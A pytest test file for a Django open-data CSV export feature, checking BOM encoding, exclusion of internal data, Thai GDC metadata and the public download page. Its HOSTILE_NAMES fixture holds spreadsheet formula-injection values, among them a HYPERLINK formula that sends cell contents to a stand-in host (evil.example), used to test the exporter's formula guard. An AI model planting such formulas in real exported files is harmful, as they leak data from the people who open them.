"""Open data (issue 17, must-have 4): ``manage.py export_open_data DIR`` and the download
page /open-data/ write exactly the public data as CSV (UTF-8 with BOM, formula-safe,
reading back to the database's rows) with Thai GDC metadata per data set."""

import csv
import datetime as dt
import io
import json
from decimal import Decimal

import pytest
from django.core.management import call_command
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone

from indicators.models import QuarterEvaluation
from projects import spreadsheets, thaidates
from projects.models import BudgetTransfer, BudgetType, ProgressEntry, Project
from reports.models import OpenDataExport
from reports.opendata import jobs, services
from reports.opendata.datasets import DATASETS
from reports.opendata.export import INDEX_NAME, file_names, write_all
from reports.opendata.metadata import GDC_FIELDS
from tests.factories import (
    AgencyFactory,
    EvidenceFileFactory,
    FiscalYearFactory,
    IndicatorFactory,
    IndicatorQuarterResultFactory,
    MonthReopeningFactory,
    ProgressEntryFactory,
    ProjectFactory,
    ProjectObjectiveFactory,
    ReportSubmissionFactory,
    StrategyLinkFactory,
    UserFactory,
)

IMMEDIATE = {"default": {"BACKEND": "django_tasks.backends.immediate.ImmediateBackend"}}
DUMMY = {"default": {"BACKEND": "django_tasks.backends.dummy.DummyBackend"}}
HOSTILE_NAMES = ('=HYPERLINK("http://evil.example/?x="&A1,"คลิก")', "+1", "-1", "@x", "'=1")
# Never in any open-data file.
SECRETS = (
    "โครงการลับเฉพาะภายใน",
    "ร่างรายงานยังไม่ส่ง-ห้ามเผยแพร่",
    "นางสาวผู้รับผิดชอบ ลับมาก",
    "02-999-8888",
    "ความเห็นผู้ประเมินภายใน",
    "เหตุผลเปิดเดือนอีกครั้งภายใน",
    "หลักฐานลับ.pdf",
    "ตัวชี้วัดภายในห้ามเผยแพร่",
    "9999-001",
    "ผู้ประเมินชื่อลับ",
)


@pytest.fixture
def world(db, media):
    year = FiscalYearFactory(year_be=2569)
    agency = AgencyFactory(code="05010000", name="สำนักงานเขตทดสอบข้อมูลเปิด")
    evaluator = UserFactory(evaluator=True, first_name="ผู้ประเมินชื่อลับ")
    kind = BudgetType.objects.create(name="งบลงทุนทดสอบ")
    projects = []
    for n, name in enumerate(HOSTILE_NAMES, start=1):
        project = ProjectFactory(
            agency=agency,
            fiscal_year=year,
            code=f"{agency.code}-{n:04d}",
            name=name,
            responsible="นางสาวผู้รับผิดชอบ ลับมาก",
            responsible_phone="02-999-8888",
            budget_allocated=Decimal("1000000.00") if n <= 2 else None,
            budget_type=kind if n <= 2 else None,
        )
        ProjectObjectiveFactory(project=project, order=1, text="@วัตถุประสงค์ที่ขึ้นต้นแปลก")
        StrategyLinkFactory(project=project, order=1, text="ภารกิจงานประจำของหน่วยงาน")
        for month in (0, 1):
            day = year.starts_on + dt.timedelta(days=31 * month + 20)
            entry = ProgressEntryFactory(
                project=project,
                reported_on=day,
                percent=Decimal(10 * (month + 1)),
                narrative=f"=SUM(A1:A9) ผลการดำเนินงานเดือน {month + 1}",
                problems="-",
                disbursed=Decimal("2500.50") if n == 1 else None,
            )
        QuarterEvaluation.objects.create(
            project=project,
            quarter=1,
            result_value=Decimal("15.00"),
            criterion_21=90,
            criterion_22=80,
            project_score=85,
            comment="ความเห็นผู้ประเมินภายใน",
            evaluated_by=evaluator,
        )
        projects.append(project)
    EvidenceFileFactory(entry=entry, original_name="หลักฐานลับ.pdf")
    MonthReopeningFactory(project=projects[0], reason="เหตุผลเปิดเดือนอีกครั้งภายใน")
    BudgetTransfer.objects.create(
        project=projects[0],
        transferred_on=year.starts_on,
        amount=Decimal("-5000.00"),
        reason="+โอนออก",
    )
    ReportSubmissionFactory(
        project=projects[0],
        period=thaidates.add_months(year.starts_on, 2),
        narrative="ร่างรายงานยังไม่ส่ง-ห้ามเผยแพร่",
    )
    internal = ProjectFactory(
        agency=agency,
        fiscal_year=year,
        code=f"{agency.code}-0099",
        name="โครงการลับเฉพาะภายใน",
        is_internal=True,
    )
    ProgressEntryFactory(project=internal, narrative="โครงการลับเฉพาะภายใน รายงาน")
    kpi = IndicatorFactory(code="0501-001", projects=[projects[0], internal])
    IndicatorQuarterResultFactory(indicator=kpi, fiscal_year=year, quarter=1, achieved_level=3)
    hidden = IndicatorFactory(
        code="9999-001", name="ตัวชี้วัดภายในห้ามเผยแพร่", is_internal=True, projects=[projects[0]]
    )
    IndicatorQuarterResultFactory(indicator=hidden, fiscal_year=year, quarter=1)
    return {"projects": projects, "internal": internal, "kpi": kpi}


def read_back(path) -> list[dict]:
    with path.open(encoding="utf-8", newline="") as handle:
        rows = list(spreadsheets.csv_reader(handle))
    return [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]


@pytest.fixture
def exported(world, tmp_path):
    out = tmp_path / "open-data"
    call_command("export_open_data", str(out), stdout=io.StringIO())
    return out


def text(value) -> str:
    return "" if value is None else str(value)


def test_the_command_writes_every_file_csv_with_a_bom(exported):
    assert sorted(p.name for p in exported.iterdir()) == sorted(file_names())
    for dataset in DATASETS:
        raw = (exported / dataset.csv_name).read_bytes()
        assert raw.startswith(b"\xef\xbb\xbf"), dataset.name
        assert raw[3:].decode("utf-8").splitlines()[0] == ",".join(dataset.header)
    assert not list(exported.parent.glob(".open-data-*")), "the staging directory is gone"


def test_no_cell_starts_like_a_formula_and_reading_back_gives_the_text(exported):
    for dataset in DATASETS:
        with (exported / dataset.csv_name).open(encoding="utf-8-sig", newline="") as handle:
            for row in csv.reader(handle):
                for field in row:
                    if spreadsheets.starts_like_formula(field):
                        Decimal(field)  # only a negative number may start with "-"
    raw = {row["project_code"]: row["project_name"] for row in raw_rows(exported, "projects")}
    assert raw["05010000-0001"] == "'" + HOSTILE_NAMES[0]
    assert raw["05010000-0002"] == "'+1"
    assert raw["05010000-0005"] == "''=1"  # the guard of text that already had a quote
    back = {
        row["project_code"]: row["project_name"] for row in read_back(exported / "projects.csv")
    }
    assert [back[f"05010000-{n:04d}"] for n in range(1, 6)] == list(HOSTILE_NAMES)


def raw_rows(directory, name) -> list[dict]:
    with (directory / f"{name}.csv").open(encoding="utf-8-sig", newline="") as handle:
        return list(csv.DictReader(handle))


@pytest.mark.parametrize("value", [*HOSTILE_NAMES, "'", "''+2", "\t=1", "-", "ธรรมดา", "'ปกติ"])
def test_the_csv_guard_is_undone_exactly(value):
    assert spreadsheets.csv_text_back(spreadsheets.csv_field(value)) == value


def test_projects_read_back_as_the_public_projects(exported, world):
    rows = read_back(exported / "projects.csv")
    public = Project.objects.filter(is_internal=False).order_by("code")
    assert [row["project_code"] for row in rows] == [p.code for p in public]
    first = rows[0]
    project = world["projects"][0]
    assert first == {
        "project_code": project.code,
        "project_name": project.name,
        "agency_code": "05010000",
        "agency_name": "สำนักงานเขตทดสอบข้อมูลเปิด",
        "fiscal_year": "2569",
        "rationale": project.rationale,
        "objectives": "@วัตถุประสงค์ที่ขึ้นต้นแปลก",
        "targets": "-",
        "strategy_links": "ภารกิจงานประจำของหน่วยงาน",
        "budget_code": project.budget_code,
        "organisation_code": project.organisation_code,
        "indicator_codes": "0501-001",  # the internal KPI it supports is left out
        "latest_percent": "20.00",
        "latest_reported_on": text(project.entries.newest_first().first().reported_on),
        "updated_on": text(timezone.localtime(project.updated_at).date()),
    }


def test_monthly_progress_reads_back_as_the_approved_entries(exported):
    rows = read_back(exported / "monthly_progress.csv")
    entries = ProgressEntry.objects.filter(project__is_internal=False).order_by(
        "project__code", "period"
    )
    assert rows == [
        {
            "project_code": e.project.code,
            "fiscal_year": "2569",
            "period": e.period.strftime("%Y-%m"),
            "reported_on": text(e.reported_on),
            "percent": text(e.percent),
            "narrative": e.narrative,
            "problems": e.problems,
            "obstacles": e.obstacles,
            "lower_reason": e.lower_reason,
            "committed": text(e.committed),
            "disbursed": text(e.disbursed),
            "is_late": "false",
        }
        for e in entries
    ]
    assert len(rows) == 10  # no draft, no internal project's report


def test_evaluations_kpis_and_budget_read_back(exported, world):
    evaluations = read_back(exported / "quarter_evaluations.csv")
    assert [(r["project_code"], r["quarter"], r["project_score"]) for r in evaluations] == [
        (p.code, "1", "85.00") for p in world["projects"]
    ]
    assert set(evaluations[0]) == {
        "project_code", "fiscal_year", "quarter", "result_value", "criterion_21",
        "criterion_22", "project_score",
    }  # fmt: skip
    kpis = read_back(exported / "indicators.csv")
    assert [(k["indicator_code"], k["project_codes"], k["fiscal_years"]) for k in kpis] == [
        ("0501-001", world["projects"][0].code, "2569")
    ]
    assert kpis[0]["kind"] == "ตัวชี้วัดเชิงยุทธศาสตร์"
    results = read_back(exported / "indicator_results.csv")
    assert [
        (r["indicator_code"], r["fiscal_year"], r["quarter"], r["achieved_level"]) for r in results
    ] == [("0501-001", "2569", "1", "3")]
    budget = read_back(exported / "budget.csv")
    assert [
        (b["project_code"], b["allocated"], b["transfers_total"], b["after_transfers"])
        for b in budget
    ] == [
        (world["projects"][0].code, "1000000.00", "-5000.00", "995000.00"),
        (world["projects"][1].code, "1000000.00", "0.00", "1000000.00"),
    ]
    transfers = read_back(exported / "budget_transfers.csv")
    assert [(t["project_code"], t["amount"], t["reason"]) for t in transfers] == [
        (world["projects"][0].code, "-5000.00", "+โอนออก")
    ]


def test_no_internal_project_draft_or_staff_name_in_any_file(exported):
    for path in exported.iterdir():
        content = path.read_text(encoding="utf-8")
        for secret in SECRETS:
            assert secret not in content, (path.name, secret)


def test_metadata_has_every_gdc_field_and_the_keys(exported):
    index = json.loads((exported / INDEX_NAME).read_text(encoding="utf-8"))
    assert [r["name"] for r in index["resources"]] == [d.name for d in DATASETS]
    assert index["licenses"][0]["name"] == "odc-by"
    for dataset in DATASETS:
        meta = json.loads((exported / dataset.metadata_name).read_text(encoding="utf-8"))
        missing = [f for f in GDC_FIELDS if meta.get(f) in (None, "", [])]
        assert missing == [], (dataset.name, missing)
        assert meta["title"] == str(dataset.title)
        assert meta["owner_org"] == "กรุงเทพมหานคร"
        assert meta["license_title"] == "Open Data Commons Attribution License"
        assert (meta["first_year_of_data"], meta["last_year_of_data"]) == (2569, 2569)
        assert set(meta["primary_key"]) <= set(dataset.header)
        assert [f["id"] for f in meta["fields"]] == list(dataset.header)
        assert meta["resource"]["rows"] == len(read_back(exported / dataset.csv_name))


def test_primary_keys_are_unique(exported):
    for dataset in DATASETS:
        rows = read_back(exported / dataset.csv_name)
        keys = [tuple(row[k] for k in dataset.primary_key) for row in rows]
        assert len(keys) == len(set(keys)), dataset.name


def test_queries_do_not_grow_with_the_rows(world, tmp_path):
    def count(directory):
        directory.mkdir()
        with CaptureQueriesContext(connection) as queries:
            write_all(directory)
        return len(queries)

    before = count(tmp_path / "a")
    year, agency = world["projects"][0].fiscal_year, world["projects"][0].agency
    for n in range(10, 20):
        project = ProjectFactory(agency=agency, fiscal_year=year, code=f"{agency.code}-{n:04d}")
        ProgressEntryFactory(project=project)
        IndicatorFactory(projects=[project])
    assert count(tmp_path / "b") == before


# --- the download page --------------------------------------------------------------------


@pytest.fixture
def built(world, settings):
    settings.TASKS = IMMEDIATE
    export = jobs.open_data_export_request()
    export.refresh_from_db()
    assert export.status == OpenDataExport.Status.DONE, export.error
    return export


def test_the_page_lists_the_sets_for_an_anonymous_visitor(client, built, settings):
    settings.BMA_PUBLIC_SITE = True
    response = client.get(reverse("opendata:index"))
    assert response.status_code == 200
    page = response.content.decode()
    for dataset in DATASETS:
        assert str(dataset.title) in page
        assert reverse("opendata:file", args=[dataset.csv_name]) in page
    assert "สร้างไฟล์ข้อมูลเปิดชุดใหม่" not in page  # no button for the public
    csv_response = client.get(reverse("opendata:file", args=["projects.csv"]))
    assert csv_response.status_code == 200
    body = b"".join(csv_response.streaming_content)
    assert body.startswith(b"\xef\xbb\xbfproject_code,")
    assert csv_response["Content-Type"].startswith("text/csv")


def test_the_page_and_files_are_not_found_when_the_public_site_is_off(client, built, settings):
    settings.BMA_PUBLIC_SITE = False
    assert client.get(reverse("opendata:index")).status_code == 404
    assert client.get(reverse("opendata:file", args=["projects.csv"])).status_code == 404
    client.force_login(UserFactory())
    assert client.get(reverse("opendata:index")).status_code == 200
    assert client.get(reverse("opendata:file", args=["projects.csv"])).status_code == 200


def test_an_unknown_file_is_not_found(client, built):
    assert client.get(reverse("opendata:file", args=["secret.txt"])).status_code == 404


def test_the_first_visit_queues_one_export_and_says_it_is_being_prepared(client, world, settings):
    settings.TASKS = DUMMY
    page = client.get(reverse("opendata:index")).content.decode()
    assert "กำลังเตรียมไฟล์ข้อมูลเปิด" in page
    client.get(reverse("opendata:index"))
    assert OpenDataExport.objects.get().status == OpenDataExport.Status.QUEUED
    fragment = client.get(reverse("opendata:index"), headers={"HX-Request": "true"})
    assert "HX-Refresh" not in fragment
    assert 'id="open-data-status"' in fragment.content.decode()


def test_a_manager_asks_for_a_fresh_export_that_replaces_the_old_one(client, built, settings):
    staff = UserFactory()
    client.force_login(staff)
    assert client.post(reverse("opendata:request")).status_code == 403
    client.force_login(UserFactory(manager=True))
    page = client.get(reverse("opendata:index")).content.decode()
    assert "สร้างไฟล์ข้อมูลเปิดชุดใหม่" in page
    Project.objects.filter(code="05010000-0002").update(name="ชื่อใหม่หลังแก้ไข")
    response = client.post(reverse("opendata:request"))
    assert response.status_code == 302
    latest = services.open_data_latest()
    assert latest.pk != built.pk
    body = b"".join(client.get(reverse("opendata:file", args=["projects.csv"])).streaming_content)
    assert "ชื่อใหม่หลังแก้ไข" in body.decode("utf-8")


def test_old_exports_and_their_files_go(built, settings, media):
    settings.BMA_OPEN_DATA_KEEP = 1
    first_files = list(built.manifest["files"].values())
    newer = jobs.open_data_export_request()
    newer.refresh_from_db()
    assert not OpenDataExport.objects.filter(pk=built.pk).exists()
    assert all(not (media / name).exists() for name in first_files)
    assert all((media / name).exists() for name in newer.manifest["files"].values())


def test_the_page_costs_the_same_queries_however_many_sets_and_rows(
    client, built, django_assert_max_num_queries
):
    # the newest export, one pending, the session-less anonymous visitor: a handful
    with django_assert_max_num_queries(4):
        assert client.get(reverse("opendata:index")).status_code == 200


def test_a_failed_build_keeps_the_old_files_and_is_shown_to_a_manager(
    client, built, settings, monkeypatch
):
    from reports.opendata import export

    def broken(*args, **kwargs):
        raise RuntimeError("ดิสก์เต็ม")

    monkeypatch.setattr(services, "write_all", broken)
    failed = jobs.open_data_export_request()
    failed.refresh_from_db()
    assert failed.status == OpenDataExport.Status.FAILED
    assert services.open_data_latest() == built
    assert export.write_all is not broken
    assert client.get(reverse("opendata:file", args=["projects.csv"])).status_code == 200
    assert jobs.open_data_export_ensure() is None  # no retry on every visit
    client.force_login(UserFactory(manager=True))
    assert "ดิสก์เต็ม" in client.get(reverse("opendata:index")).content.decode()


def test_an_export_lost_for_an_hour_does_not_hold_back_a_fresh_one(world, settings):
    settings.TASKS = DUMMY
    lost = jobs.open_data_export_request()
    assert jobs.open_data_export_request() == lost
    OpenDataExport.objects.filter(pk=lost.pk).update(
        status=OpenDataExport.Status.RUNNING,
        created_at=timezone.now() - dt.timedelta(hours=2),
    )
    assert jobs.open_data_export_request() != lost
